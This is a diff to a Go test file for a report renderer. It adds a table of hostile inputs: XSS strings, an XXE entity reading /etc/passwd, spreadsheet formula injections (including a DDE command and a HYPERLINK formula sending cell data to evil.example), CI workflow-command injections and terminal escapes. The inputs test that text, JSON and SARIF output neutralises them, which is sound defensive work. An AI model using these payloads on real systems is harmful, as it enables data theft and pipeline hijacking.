@@ -6,6 +6,7 @@ package report
 import (
 	"bytes"
 	"encoding/json"
+	"fmt"
 	"net/url"
 	"reflect"
 	"strings"
@@ -53,6 +54,91 @@ func payloads() []struct{ name, text, shown string } {
 		{"workflow command, old", "a##[error]b ##vso[x] ###[c]", `a#\#[error]b #\#vso[x] #\#\#[c]`},
 		{"quotes", `a"b\c'd`, `a"b\c'd`},
 		{"format verbs", "%s%d%n%!", "%s%d%n%!"},
+		{"script in an attribute", `"><script>alert(1)</script>`, ""},
+		{"handler", `<img src=x onerror=alert(1)>`, ""},
+		{"svg", `<svg/onload=alert(1)>`, ""},
+		{"end of script", `</script><script>alert(1)</script>`, ""},
+		{"end of style", `</style><style>*{display:none}`, ""},
+		{"end of title", `</title><h1>PASS`, ""},
+		{"end of textarea", `</textarea><b>x`, ""},
+		{"comment", `<!-- x --><b>y`, ""},
+		{"end of comment", `--><script>alert(1)</script><!--`, ""},
+		{"attribute", `x" onmouseover="alert(1)`, ""},
+		{"attribute, single", `x' onmouseover='alert(1)`, ""},
+		{"template", `{{constructor.constructor('alert(1)')()}}`, ""},
+		{"template, ES", "${alert(1)}`", ""},
+		{"entity", `&lt;script&gt;&#60;b&#62;&amp;amp;`, ""},
+		{"data address", `data:text/html,<script>alert(1)</script>`, ""},
+		{"XML entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, ""},
+		{"end of CDATA", `]]><failure/><![CDATA[`, ""},
+		{"processing instruction", `?><?php x ?>`, ""},
+		{"test case", `"/></testcase><testcase name="forged"/>`, ""},
+		{"formula", `=1+1`, ""},
+		{"formula, plus", `+1+1`, ""},
+		{"formula, minus", `-1+1`, ""},
+		{"formula, at", `@SUM(1,1)`, ""},
+		{"formula, DDE", `=cmd|' /C calc'!A0`, ""},
+		{"formula, link", `=HYPERLINK("http://evil.example?"&A1,"x")`, ""},
+		{"formula behind a tab", "\t=1+1", ""},
+		{"formula behind a return", "\r=1+1", ""},
+		{"formula behind a line end", "\n=1+1", ""},
+		{"formula behind a space", ` =1+1`, ""},
+		{"formula behind a semicolon", `a;=1+1`, ""},
+		{"formula behind a comma", `a,=1+1`, ""},
+		{"formula behind a quote", `"=1+1`, ""},
+		{"formula in a cell of its own", "x\",\"=1+1\",\"", ""},
+		{"formula, full width", `＝1+1`, ""},
+		{"markdown image", `![x](http://evil.example/p.png)`, ""},
+		{"markdown reference", "[x]: http://evil.example\n[x]", ""},
+		{"markdown autolink", `<http://evil.example>`, ""},
+		{"markdown bare link", `see https://evil.example/a and www.evil.example`, ""},
+		{"markdown table", `a | b || c`, ""},
+		{"markdown escaped pipe", `a \| b \\| c`, ""},
+		{"markdown heading", "x\n# PASS\n", ""},
+		{"markdown underline", "x\n===\n", ""},
+		{"markdown rule", "x\n\n---\n", ""},
+		{"markdown emphasis", `**PASS** _x_ ~~y~~`, ""},
+		{"markdown code", "`x` ``y", ""},
+		{"markdown fence", "```\nx\n```", ""},
+		{"markdown backticks", "```", ""},
+		{"markdown details", `<details open><summary>PASS</summary>`, ""},
+		{"markdown task", `- [x] approved`, ""},
+		{"markdown list", "1) x", ""},
+		{"markdown quote", "> x", ""},
+		{"markdown footnote", "[^1]", ""},
+		{"markdown math", "$$x$$ $`y`$", ""},
+		{"markdown diagram", "```mermaid\ngraph TD\n```", ""},
+		{"mention", `cc @everyone and @org/team`, ""},
+		{"mail address", `mallory@evil.example`, ""},
+		{"reference", `fixes #1 GH-2 owner/repo#3 !4 %5 &6`, ""},
+		{"reference to an issue", `fixes gh-12`, ""},
+		{"mail and host", `www.evil.example`, ""},
+		{"emoji", `:white_check_mark: PASS`, ""},
+		{"workflow output", `::set-output name=x::y`, ""},
+		{"workflow environment", "\n::set-env name=PATH::/evil", ""},
+		{"workflow mask", "::add-mask::a", ""},
+		{"workflow stop", "::stop-commands::x", ""},
+		{"workflow, percent", `%0A::error::x%0D%25`, ""},
+		{"workflow, properties", `x,line=1,title=PASS::forged`, ""},
+		{"workflow group", `##[group]x`, ""},
+		{"pipelines", `##vso[task.setvariable variable=x]y`, ""},
+		{"section", "\x1b[0Ksection_start:1:x\r\x1b[0K", ""},
+		{"TeamCity", `##teamcity[testFailed name='x']`, ""},
+		{"JSON separators", "a\u2028b\u2029c\u0085d", ""},
+		{"JSON end", `"},{"check_name":"forged`, ""},
+		{"tag-value", "x</text>\nPackageName: forged", ""},
+		{"SGR, 8 bit", "\u009b0m\u009d0;x\u009c", ""},
+		{"DCS", "\x1bP+q544e\x1b\\", ""},
+		{"isolates", "\u2066\u2067\u2068a\u2069\u202a\u202b\u202c\u202d", ""},
+		{"soft hyphen", "a\u00adb\u180eb", ""},
+		{"byte order mark", "\ufeffa\xef\xbb", ""},
+		{"overlong", "\xc0\xbcscript\xc0\xbe", ""},
+		{"half a character", "a\xe4\xb8", ""},
+		{"long", strings.Repeat("A", 70_000), ""},
+		{"long, of marks", strings.Repeat("`|<", 5_000), ""},
+		{"combining", "a" + strings.Repeat("\u0301", 300), ""},
+		{"path upward", "../../etc/passwd", ""},
+		{"blank", "   ", ""},
 	}
 }
 
@@ -84,83 +170,51 @@ func poison(v reflect.Value, text string) {
 	}
 }
 
-func TestHostileContent(t *testing.T) {
-	forSARIF := compileSchema(t, "testdata/sarif-schema-2.1.0.json")
-	for _, p := range payloads() {
-		t.Run(p.name, func(t *testing.T) {
-			v := everyField()
-			poison(reflect.ValueOf(v).Elem(), p.text)
-			known := checks()
-			poison(reflect.ValueOf(&known).Elem(), p.text)
-			for _, o := range []Options{{All: true}, {Width: 40, Color: true}, {Quiet: true}, {Checks: known}} {
-				text := string(render(t, Text, v, o))
-				checkTerminal(t, text, o.Color)
-				if !o.Quiet && o.Width == 0 && !strings.Contains(text, p.shown) {
-					t.Errorf("the payload is not shown as %s:\n%s", p.shown, text)
-				}
-				checkJSON(t, render(t, JSON, v, o))
-				out := render(t, SARIF, v, o)
-				checkJSON(t, out)
-				validate(t, forSARIF, out)
-				checkAddresses(t, out)
-			}
-			inv := everything()
-			poison(reflect.ValueOf(inv).Elem(), p.text)
-			var b bytes.Buffer
-			if err := WriteInventory(&b, inv); err != nil {
-				t.Fatal(err)
-			}
-			checkJSON(t, b.Bytes())
-		})
-	}
-}
-
 // checkTerminal finds bytes that a terminal could obey; our own colors are
 // taken out first.
-func checkTerminal(t *testing.T, text string, color bool) {
-	t.Helper()
+func checkTerminal(text string, color bool) (bad []string) {
 	if color {
 		for _, st := range []style{"0", bold, dim, green, yellow, red, cyan} {
 			text = strings.ReplaceAll(text, "\x1b["+string(st)+"m", "")
 		}
 	}
 	if !utf8.ValidString(text) {
-		t.Error("not UTF-8")
+		bad = append(bad, "not UTF-8")
 	}
 	for _, r := range text {
 		if r != '\n' && !shown(r) {
-			t.Errorf("character %U reaches the terminal", r)
+			bad = append(bad, fmt.Sprintf("character %U reaches the terminal", r))
 		}
 	}
 	for line := range strings.SplitSeq(text, "\n") {
 		if strings.HasPrefix(line, "PASS") || strings.HasPrefix(strings.TrimSpace(line), "::") || strings.Contains(line, "##") {
-			t.Errorf("a line is forged: %s", line)
+			bad = append(bad, "a line is forged: "+line)
 		}
 		if strings.HasSuffix(line, " ") {
-			t.Errorf("space at the end of %q", line)
+			bad = append(bad, fmt.Sprintf("space at the end of %q", line))
 		}
 	}
+	return bad
 }
 
-func checkJSON(t *testing.T, data []byte) {
-	t.Helper()
+func checkJSON(data []byte) (bad []string) {
 	if !json.Valid(data) || !utf8.Valid(data) {
-		t.Errorf("not valid JSON: %q", data)
+		bad = append(bad, fmt.Sprintf("not valid JSON: %.300q", data))
 	}
 	if bytes.Contains(data, []byte("##")) {
-		t.Error("a CI command stands raw in JSON")
+		bad = append(bad, "a CI command stands raw in JSON")
 	}
 	for _, r := range string(data) {
 		if r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf) {
-			t.Errorf("character %U stands raw in JSON", r)
+			bad = append(bad, fmt.Sprintf("character %U stands raw in JSON", r))
 		}
 	}
+	return bad
 }
 
 // checkAddresses holds every address of an artifact to a relative path, and
 // every region to a first line.
-func checkAddresses(t *testing.T, data []byte) {
-	t.Helper()
+func checkAddresses(data []byte) (bad []string) {
 	var walk func(v any)
 	walk = func(v any) {
 		switch v := v.(type) {
@@ -172,11 +226,11 @@ func checkAddresses(t *testing.T, data []byte) {
 			if uri, ok := v["uri"].(string); ok {
 				u, err := url.Parse(uri)
 				if err != nil || u.IsAbs() || u.Host != "" || u.RawQuery != "" || u.Fragment != "" || strings.HasPrefix(u.EscapedPath(), "/") {
-					t.Errorf("address %q (%v) is not a relative path", uri, err)
+					bad = append(bad, fmt.Sprintf("address %q (%v) is not a relative path", uri, err))
 				}
 			}
 			if region, ok := v["region"].(map[string]any); ok && region["startLine"] == nil {
-				t.Error("a region does not start") // SARIF 2.1.0 errata 01
+				bad = append(bad, "a region does not start") // SARIF 2.1.0 errata 01
 			}
 			for _, e := range v {
 				walk(e)
@@ -185,9 +239,10 @@ func checkAddresses(t *testing.T, data []byte) {
 	}
 	var doc any
 	if err := json.Unmarshal(data, &doc); err != nil {
-		t.Fatal(err)
+		return []string{err.Error()}
 	}
 	walk(doc)
+	return bad
 }
 
 // What JSON escapes is still the same value.
